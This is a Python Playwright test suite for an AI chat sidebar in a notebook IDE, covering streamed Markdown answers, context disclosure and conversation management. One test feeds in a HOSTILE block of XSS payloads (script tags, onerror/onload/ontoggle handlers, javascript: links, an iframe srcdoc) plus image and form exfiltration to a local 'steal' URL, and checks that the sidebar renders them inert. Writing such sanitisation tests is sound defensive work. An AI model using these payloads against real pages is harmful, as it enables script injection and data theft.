"""The chat sidebar against the real agent server and the fake model: a streamed
Markdown answer, what was sent as context, conversations kept on the server, and
hostile model output rendered inert."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from browser_support import LabPage, widen_sidebar

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("aiide-agent-browser")]

ANSWER = (
    "### Plan\n\nFirst **load** the data, then plot it:\n\n"
    "```python\nimport pandas as pd\ndf = pd.read_csv('prices.csv')\ndf.price.plot()\n```\n\n"
    "- one\n- two\n"
)


@pytest.fixture(scope="module")
def lab(agent_lab: Any, browser_context: Any, artifacts_dir: Path) -> Iterator[LabPage]:
    page = LabPage.open(browser_context, agent_lab.lab_url())
    page.open_chat()
    widen_sidebar(page.page)
    try:
        yield page
    finally:
        page.close(artifacts_dir, "chat")


@pytest.fixture(autouse=True)
def fresh(lab: LabPage, fake_model: Any) -> Iterator[None]:
    fake_model.reset()
    lab.new_chat()
    yield
    lab.check()


def test_answer_streams_in_and_renders_as_markdown(
    lab: LabPage, fake_model: Any, screenshot: Any
) -> None:
    from playwright.sync_api import expect

    fake_model.script({"text": ANSWER, "delay": 0.05})
    lab.ask("How do I plot the price column?")
    streaming = lab.chat.locator(".aiide-Answer.aiide-mod-streaming")
    expect(streaming).to_have_count(1, timeout=15_000)
    lab.finished()
    answer = lab.answers().last
    expect(answer).not_to_have_class("aiide-mod-streaming")
    expect(answer.locator("h3")).to_contain_text("Plan")
    expect(answer.locator("strong")).to_have_text("load")
    expect(answer.locator("pre code")).to_contain_text("df.price.plot()")
    expect(answer.locator("li")).to_have_count(2)
    actions = answer.locator(".aiide-CodeActions")
    for label in ("Copy", "Insert below", "Replace cell", "Run"):
        expect(actions.get_by_role("button", name=label, exact=False).first).to_be_visible()
    question = lab.chat.locator(".aiide-Question-text").last
    expect(question).to_have_text("How do I plot the price column?")
    screenshot(lab.chat, "chat-answer")


def test_context_sent_is_disclosed(lab: LabPage, fake_model: Any) -> None:
    from playwright.sync_api import expect

    fake_model.script({"text": "ok"})
    lab.ask("hello")
    lab.finished()
    context = lab.chat.locator(".aiide-Context").last
    expect(context.locator("summary")).to_contain_text("Context sent:")
    context.locator("summary").click()
    expect(context.locator("li").first).to_be_visible()


def test_conversations_are_kept_on_the_server(
    lab: LabPage, agent_lab: Any, fake_model: Any, screenshot: Any
) -> None:
    from playwright.sync_api import expect

    fake_model.script({"text": "Remembered answer."})
    lab.ask("Remember this question")
    lab.finished()
    cid = agent_lab.request("aiide/api/agent/conversations")["conversations"][0]["id"]
    lab.new_chat()
    expect(lab.chat.locator(".aiide-Question")).to_have_count(0)
    lab.chat.locator(".aiide-Header-toggle").click()
    listing = lab.chat.locator(".aiide-Conversations")
    expect(listing).to_be_visible()
    listing.locator(".aiide-Conversations-search").fill("remember")
    items = listing.locator(".aiide-Conversations-item")
    expect(items).to_have_count(1)
    screenshot(lab.chat, "chat-conversations")
    items.first.locator(".aiide-Conversations-open").click()
    expect(lab.chat.locator(".aiide-Question-text")).to_have_text("Remember this question")
    expect(lab.answers().last).to_contain_text("Remembered answer.")
    # Rename (kept in the workspace) and delete (on the server).
    lab.chat.locator(".aiide-Header-toggle").click()
    items.first.get_by_role("button", name="Rename", exact=False).click()
    lab.page.locator(".jp-Dialog input").fill("Price questions")
    lab.page.locator(".jp-Dialog").get_by_role("button", name="Rename").click()
    expect(lab.chat.locator(".aiide-Header-title")).to_have_text("Price questions")
    listing.locator(".aiide-Conversations-search").fill("price q")
    expect(items).to_have_count(1)
    items.first.get_by_role("button", name="Delete", exact=False).click()
    lab.page.locator(".jp-Dialog").get_by_role("button", name="Delete").click()
    expect(items).to_have_count(0)
    ids = [c["id"] for c in agent_lab.request("aiide/api/agent/conversations")["conversations"]]
    assert cid not in ids
    lab.chat.locator(".aiide-Header-toggle").click()


HOSTILE = """Here you go:

<script>window.__aiide_pwned = 'script'</script>
<img src="x" onerror="window.__aiide_pwned = 'img'">
<svg onload="window.__aiide_pwned = 'svg'"><circle r="5"/></svg>
<iframe srcdoc="<script>parent.__aiide_pwned = 'iframe'</script>"></iframe>
<a id="aiide-js-link" href="javascript:window.__aiide_pwned='link'">js link</a>
[md link](javascript:window.__aiide_pwned='mdlink')
<button data-commandlinker-command="help:about">About</button>
<details open ontoggle="window.__aiide_pwned = 'details'"><summary>s</summary>x</details>
![leak](http://127.0.0.1:9/leak?secret=1)
<form action="http://127.0.0.1:9/steal"><input name="a"><button>Send</button></form>
"""


def test_hostile_model_output_is_inert(lab: LabPage, fake_model: Any, screenshot: Any) -> None:
    from playwright.sync_api import expect

    fake_model.script({"text": HOSTILE})
    lab.ask("Show me something")
    lab.finished()
    answer = lab.answers().last
    expect(answer).to_contain_text("Here you go")
    for tag in ("script", "img", "svg", "iframe", "button", "form", "input"):
        expect(answer.locator(tag)).to_have_count(0)
    hrefs = answer.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
    assert not [h for h in hrefs if h and h.strip().lower().startswith("javascript")], hrefs
    handlers = answer.evaluate(
        "el => [...el.querySelectorAll('*')].flatMap(n => [...n.attributes]"
        ".filter(a => a.name.startsWith('on') || a.name.startsWith('data-commandlinker'))"
        ".map(a => a.name))"
    )
    assert handlers == []
    for link in answer.locator("a").all():
        link.click(modifiers=["Alt"])  # Alt: no navigation away from the lab
    lab.page.wait_for_timeout(500)
    assert lab.page.evaluate("() => window.__aiide_pwned") is None
    assert lab.dialogs == []
    expect(lab.page.locator(".jp-Dialog")).to_have_count(0)
    screenshot(lab.chat, "chat-hostile-output")
